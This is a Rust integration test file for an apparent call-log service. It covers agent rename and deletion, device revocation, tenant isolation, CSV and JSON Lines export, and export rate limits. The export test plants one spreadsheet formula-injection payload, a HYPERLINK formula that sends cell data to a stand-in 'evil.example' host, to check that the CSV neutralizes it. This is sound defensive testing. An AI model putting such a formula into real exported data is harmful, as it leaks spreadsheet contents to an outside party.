//! Data lifecycle (issue 22): agents can be renamed and deleted (their devices revoked at
//! once, their calls kept), and the call log can be exported as CSV or JSON Lines.

use std::time::Duration;

use pushdial_core::accounts::Role;
use pushdial_core::ids::{self, Kind};
use pushdial_sdk::CreateCall;
use reqwest::Method;
use serde_json::{json, Value};

use crate::harness::*;

/// A member with the `agent` role and a secret key they made (acting as them): (key,
/// their agent's id).
async fn agent_member(app: &TestApp, org_id: &str) -> (String, String) {
    let mut conn = app.db.acquire().await.unwrap();
    let user_id = ids::new_id(Kind::User);
    pushdial_core::store::accounts::insert_user(&mut conn, &user_id, "Bob", None)
        .await
        .unwrap();
    let member = pushdial_core::accounts::join(&mut conn, org_id, &user_id, Role::Agent)
        .await
        .unwrap();
    let (key, _) =
        pushdial_core::tenants::new_key(&mut conn, org_id, "secret", "bob", Some(&user_id))
            .await
            .unwrap();
    (key, member.agent_id)
}

/// A request with a given secret key: (status, headers, body text).
async fn raw(
    app: &TestApp,
    key: &str,
    method: Method,
    path: &str,
    body: Option<Value>,
) -> (u16, reqwest::header::HeaderMap, String) {
    let mut req = reqwest::Client::new()
        .request(method, format!("{}{path}", app.url))
        .bearer_auth(key);
    if let Some(b) = body {
        req = req.json(&b);
    }
    let resp = req.send().await.unwrap();
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    (status, headers, resp.text().await.unwrap())
}

fn json_of(text: &str) -> Value {
    serde_json::from_str(text).unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deleted_agent_is_gone_with_its_devices_while_its_calls_stay() {
    let app = TestApp::spawn().await;
    let client = app.client();
    let key = app.org.secret_key.clone();
    let (agent_id, device, _device_id) = app.agent_with_device(&client, "Ann").await;
    let mut stream = live_stream(&device).await;

    // Rename: shown by GET; an invalid name is refused and writes nothing.
    let path = format!("/v1/agents/{agent_id}");
    let (status, body) = app
        .api(Method::PATCH, &path, Some(json!({"name": "Ann Lee"})))
        .await;
    assert_eq!(
        (status, body["name"].as_str()),
        (200, Some("Ann Lee")),
        "{body}"
    );
    assert_eq!(client.get_agent(&agent_id).await.unwrap().name, "Ann Lee");
    settle(&app).await;
    let before = app.counts().await;
    let (status, body) = app
        .api(Method::PATCH, &path, Some(json!({"name": "  "})))
        .await;
    assert!(status == 400 || status == 422, "{status} {body}");
    let (status, body) = app
        .api(Method::PATCH, &path, Some(json!({"name": false})))
        .await;
    assert_eq!(status, 400, "a name is a string, not a boolean: {body}");
    assert_eq!(app.counts().await, before);
    assert_eq!(client.get_agent(&agent_id).await.unwrap().name, "Ann Lee");

    // A call, kept after the agent goes.
    let call = client
        .create_call(&CreateCall::for_agent("+14155550123", &agent_id), None)
        .await
        .unwrap();
    settle(&app).await;

    // Another organization cannot see, rename or delete it.
    let other = app.other_org().await;
    let before = app.counts().await;
    for method in [Method::GET, Method::DELETE] {
        let (status, _, body) = raw(&app, &other.secret_key, method, &path, None).await;
        assert_eq!(status, 404, "{body}");
    }
    let (status, _, body) = raw(
        &app,
        &other.secret_key,
        Method::PATCH,
        &path,
        Some(json!({"name": "Mallory"})),
    )
    .await;
    assert_eq!(status, 404, "{body}");
    // Nor can an agent-role member delete it, or anyone rename it through them.
    let (bob_key, bob_agent) = agent_member(&app, &app.org.org_id).await;
    let before_bob = app.counts().await;
    let (status, _, body) = raw(&app, &bob_key, Method::DELETE, &path, None).await;
    assert_eq!(
        (status, json_of(&body)["code"].as_str()),
        (403, Some("role_forbidden")),
        "{body}"
    );
    let (status, _, _) = raw(
        &app,
        &bob_key,
        Method::PATCH,
        &path,
        Some(json!({"name": "Bob's now"})),
    )
    .await;
    assert_eq!(status, 403);
    // A current member's own agent is not deleted: the member is removed first.
    let (status, body) = app
        .api(Method::DELETE, &format!("/v1/agents/{bob_agent}"), None)
        .await;
    assert_eq!(
        (status, body["code"].as_str()),
        (409, Some("agent_is_member")),
        "{body}"
    );
    assert_eq!(app.counts().await, before_bob);
    assert!(before.len() == before_bob.len());

    // A pairing code waiting for a second phone dies with the agent.
    let code = client.create_pairing_code(&agent_id).await.unwrap();

    // Delete: answers the agent as it was; its device hears `device.revoked` and is closed.
    let (status, body) = app.api(Method::DELETE, &path, None).await;
    assert_eq!(
        (status, body["id"].as_str()),
        (200, Some(agent_id.as_str())),
        "{body}"
    );
    let closed = next_message(&mut stream, Duration::from_secs(5), |_| None::<()>).await;
    assert_eq!(closed, Next::Ended, "the deleted agent's socket is closed");
    let err = device.connect_stream().await.unwrap_err();
    assert_eq!(
        (err.status(), err.code()),
        (Some(401), Some("device_revoked"))
    );
    let err = AgentClientPair::pair(&app, &code.code).await;
    assert!(err.is_some_and(|s| s >= 400), "its pairing code is gone");

    // Gone everywhere an agent is read or used…
    for method in [Method::GET, Method::DELETE] {
        let (status, body) = app.api(method, &path, None).await;
        assert_eq!(status, 404, "{body}");
    }
    let (status, _) = app
        .api(Method::PATCH, &path, Some(json!({"name": "Back"})))
        .await;
    assert_eq!(status, 404);
    let listed = client.list_agents().await.unwrap();
    assert!(listed.data.iter().all(|a| a.id != agent_id));
    let (status, _) = app
        .api(
            Method::POST,
            "/v1/pairing_codes",
            Some(json!({"agent_id": agent_id})),
        )
        .await;
    assert_eq!(status, 404);
    // …calling it answers as for an agent that never existed…
    let unknown = ids::new_id(Kind::Agent);
    let mut answers = vec![];
    for a in [&agent_id, &unknown] {
        let (status, body) = app
            .api(
                Method::POST,
                "/v1/calls",
                Some(json!({"to": "+14155550123", "agent_id": a})),
            )
            .await;
        answers.push((status, body["code"].clone()));
    }
    assert_ne!(answers[0].0, 201);
    assert_eq!(answers[0], answers[1]);
    // …while its call stays readable, still naming it.
    let old = client.get_call(&call.id).await.unwrap();
    assert_eq!(old.agent_id, agent_id);
    let (status, _, _) = raw(
        &app,
        &key,
        Method::GET,
        &format!("/v1/calls/{}", call.id),
        None,
    )
    .await;
    assert_eq!(status, 200);
    // The audit log has both changes.
    let actions: Vec<String> = sqlx::query_scalar(
        "select action from audit_events where target_id = $1 order by created_at",
    )
    .bind(&agent_id)
    .fetch_all(&app.db)
    .await
    .unwrap();
    assert!(actions.contains(&"agent.renamed".to_owned()), "{actions:?}");
    assert!(actions.contains(&"agent.deleted".to_owned()), "{actions:?}");
    app.shutdown().await;
}

/// Pairs a phone with a code, as the app does: the status of a refusal.
struct AgentClientPair;

impl AgentClientPair {
    async fn pair(app: &TestApp, code: &str) -> Option<u16> {
        pushdial_sdk::AgentClient::pair(&app.url, code, "late phone", "cli")
            .await
            .err()
            .map(|e| e.status().unwrap_or(0))
    }
}

/// Inserts `n` calls of `agent_id` a second apart, newest one second ago; their ids.
async fn insert_calls(
    app: &TestApp,
    org_id: &str,
    agent_id: &str,
    n: usize,
    metadata: impl Fn(usize) -> Value,
) -> Vec<String> {
    let mut out = vec![];
    for i in 0..n {
        let id = ids::new_id(Kind::Call);
        sqlx::query(
            "insert into calls (id, org_id, agent_id, to_number, confirm, status, reason, metadata,
                                duration_s, expires_at, created_at, updated_at)
             values ($1, $2, $3, '+14155550123', 'prompt', $4, $5, $6, $7,
                     now() + interval '1 minute',
                     now() - make_interval(secs => $8), now() - make_interval(secs => $8))",
        )
        .bind(&id)
        .bind(org_id)
        .bind(agent_id)
        .bind(if i % 3 == 0 { "completed" } else { "expired" })
        .bind(if i % 3 == 0 { None } else { Some("expired") })
        .bind(metadata(i))
        .bind(if i % 3 == 0 { Some(i as i32) } else { None })
        .bind((n - i) as f64)
        .execute(&app.db)
        .await
        .unwrap();
        out.push(id);
    }
    out
}

/// Every call `GET /v1/calls` shows with `key` in the window, oldest first, as the
/// export's fields.
async fn listed(app: &TestApp, key: &str, window: &str) -> Vec<Value> {
    let mut out = vec![];
    let mut after: Option<String> = None;
    loop {
        let mut path = format!("/v1/calls?limit=100&{window}");
        if let Some(a) = &after {
            path.push_str(&format!("&starting_after={a}"));
        }
        let (status, _, body) = raw(app, key, Method::GET, &path, None).await;
        assert_eq!(status, 200, "{body}");
        let page = json_of(&body);
        for c in page["data"].as_array().unwrap() {
            out.push(c.clone());
        }
        after = out.last().map(|c| c["id"].as_str().unwrap().to_owned());
        if page["has_more"] != true {
            break;
        }
    }
    // Oldest first, as the export writes them (the list pages by id, newest first).
    let mut out: Vec<Value> = out.iter().map(project).collect();
    out.sort_by_key(|c| {
        (
            c["created_at"].as_i64(),
            c["id"].as_str().map(str::to_owned),
        )
    });
    out
}

/// The export's fields of a call, with times as instants.
fn project(c: &Value) -> Value {
    let instant = |v: &Value| {
        chrono::DateTime::parse_from_rfc3339(v.as_str().unwrap())
            .unwrap()
            .timestamp_micros()
    };
    json!({
        "id": c["id"], "agent_id": c["agent_id"], "device_id": c["device_id"], "to": c["to"],
        "status": c["status"], "reason": c["reason"],
        "created_at": instant(&c["created_at"]), "updated_at": instant(&c["updated_at"]),
        "duration_s": c["duration_s"], "metadata": c["metadata"],
    })
}

/// Reads an RFC 4180 document (quoted cells with doubled quotes, CRLF records).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_streams_the_call_log_as_the_list_shows_it() {
    let app = TestApp::spawn().await;
    let client = app.client();
    let org_id = app.org.org_id.clone();
    let key = app.org.secret_key.clone();
    let ann = client.create_agent("Ann", None).await.unwrap().id;
    let attack = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
    // More than one of the export's batches (500 rows), so that it resumes after a cursor.
    insert_calls(&app, &org_id, &ann, 640, |i| match i {
        7 => json!({ "note": attack }),
        8 => json!({ "quote": "she said \"hi\", then\nleft" }),
        _ => json!({ "n": i.to_string() }),
    })
    .await;
    let (bob_key, bob_agent) = agent_member(&app, &org_id).await;
    let bobs = insert_calls(&app, &org_id, &bob_agent, 12, |_| json!({})).await;
    let other = app.other_org().await;
    let mut conn = app.db.acquire().await.unwrap();
    let stranger = ids::new_id(Kind::Agent);
    pushdial_core::store::agents::insert(&mut conn, &stranger, &other.org_id, "Eve", None)
        .await
        .unwrap();
    drop(conn);
    let theirs = insert_calls(&app, &other.org_id, &stranger, 5, |_| json!({})).await;

    let now = chrono::Utc::now();
    let window = format!(
        "created_gte={}&created_lt={}",
        (now - chrono::Duration::hours(1)).format("%Y-%m-%dT%H:%M:%SZ"),
        (now + chrono::Duration::minutes(1)).format("%Y-%m-%dT%H:%M:%SZ"),
    );
    let expected = listed(&app, &key, &window).await;
    assert_eq!(expected.len(), 652);

    // JSON Lines: the same calls, oldest first.
    let (status, headers, body) = raw(
        &app,
        &key,
        Method::GET,
        &format!("/v1/calls/export?{window}&format=jsonl"),
        None,
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(headers["content-type"], "application/x-ndjson");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"calls-"),
        "{disposition}"
    );
    assert!(disposition.ends_with(".jsonl\""), "{disposition}");
    let lines: Vec<Value> = body.lines().map(|l| project(&json_of(l))).collect();
    assert!(lines == expected, "the JSON Lines differ from the list");

    // CSV: a header, then the same calls; a formula in metadata does not start a cell.
    let (status, headers, body) = raw(
        &app,
        &key,
        Method::GET,
        &format!("/v1/calls/export?{window}&format=csv"),
        None,
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    let rows = parse_csv(&body);
    assert_eq!(
        rows[0],
        [
            "id",
            "agent_id",
            "device_id",
            "to",
            "status",
            "reason",
            "created_at",
            "updated_at",
            "duration_s",
            "metadata"
        ]
    );
    let cells: Vec<Value> = rows[1..]
        .iter()
        .map(|r| {
            let text = |s: &str| if s.is_empty() { Value::Null } else { json!(s) };
            project(&json!({
                "id": r[0], "agent_id": r[1], "device_id": text(&r[2]), "to": r[3],
                "status": r[4], "reason": text(&r[5]), "created_at": r[6], "updated_at": r[7],
                "duration_s": r[8].parse::<u64>().ok(),
                "metadata": serde_json::from_str::<Value>(&r[9]).unwrap(),
            }))
        })
        .collect();
    assert!(cells == expected, "the CSV differs from the list");
    for row in &rows[1..] {
        for (i, cell) in row.iter().enumerate() {
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!risky || i == 3, "a cell a spreadsheet would run: {cell:?}");
        }
    }
    // Another organization's calls never appear.
    for id in &theirs {
        assert!(!body.contains(id.as_str()));
    }

    // An agent exports only their own calls, as their list shows them.
    let (status, _, body) = raw(
        &app,
        &bob_key,
        Method::GET,
        &format!("/v1/calls/export?{window}&format=jsonl"),
        None,
    )
    .await;
    assert_eq!(status, 200);
    let mine: Vec<Value> = body.lines().map(|l| project(&json_of(l))).collect();
    assert!(mine == listed(&app, &bob_key, &window).await);
    assert_eq!(mine.len(), bobs.len());

    // Bad windows and formats are problems, and write nothing.
    settle(&app).await;
    let before = app.counts().await;
    let day = |d: i64| {
        (now + chrono::Duration::days(d))
            .format("%Y-%m-%dT%H:%M:%SZ")
            .to_string()
    };
    for query in [
        format!("created_gte={}", day(0)),
        format!("created_gte={}&created_lt={}", day(0), day(0)),
        format!("created_gte={}&created_lt={}", day(0), day(-1)),
        format!("created_gte={}&created_lt={}", day(-40), day(0)),
        format!("{window}&format=xlsx"),
    ] {
        let (status, headers, body) = raw(
            &app,
            &key,
            Method::GET,
            &format!("/v1/calls/export?{query}"),
            None,
        )
        .await;
        assert_eq!(status, 400, "{query}: {body}");
        assert_eq!(
            headers["content-type"], "application/problem+json",
            "{query}"
        );
    }
    assert_eq!(app.counts().await, before);
    app.shutdown().await;
}

/// The attack: an export reads up to a month of calls in one request, so a tenant at its
/// API limit (100 a second) could keep the shared database reading for everyone. An
/// organization starts at most six exports a minute; a refused one is `429` with
/// `Retry-After`, a bad query takes nothing, and another organization is not held back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_organization_starts_a_bounded_number_of_exports_a_minute() {
    let app = TestApp::spawn().await;
    let key = app.org.secret_key.clone();
    let now = chrono::Utc::now();
    let window = format!(
        "created_gte={}&created_lt={}",
        (now - chrono::Duration::hours(1)).format("%Y-%m-%dT%H:%M:%SZ"),
        (now + chrono::Duration::minutes(1)).format("%Y-%m-%dT%H:%M:%SZ"),
    );
    let export = |key: String, query: String| {
        let app = &app;
        async move {
            raw(
                app,
                &key,
                Method::GET,
                &format!("/v1/calls/export?{query}"),
                None,
            )
            .await
        }
    };
    // A reversed window is refused before the limit: it costs nothing.
    let reversed = format!(
        "created_gte={}&created_lt={}",
        now.format("%Y-%m-%dT%H:%M:%SZ"),
        (now - chrono::Duration::hours(1)).format("%Y-%m-%dT%H:%M:%SZ"),
    );
    let (status, _, body) = export(key.clone(), reversed).await;
    assert_eq!(status, 400, "{body}");
    for n in 1..=6 {
        let (status, _, body) = export(key.clone(), window.clone()).await;
        assert_eq!(status, 200, "export {n}: {body}");
    }
    let (status, headers, body) = export(key.clone(), window.clone()).await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(json_of(&body)["code"], "rate_limited", "{body}");
    assert!(headers.contains_key("retry-after"), "{headers:?}");
    let other = app.other_org().await;
    let (status, _, body) = export(other.secret_key.clone(), window.clone()).await;
    assert_eq!(status, 200, "another organization: {body}");
}
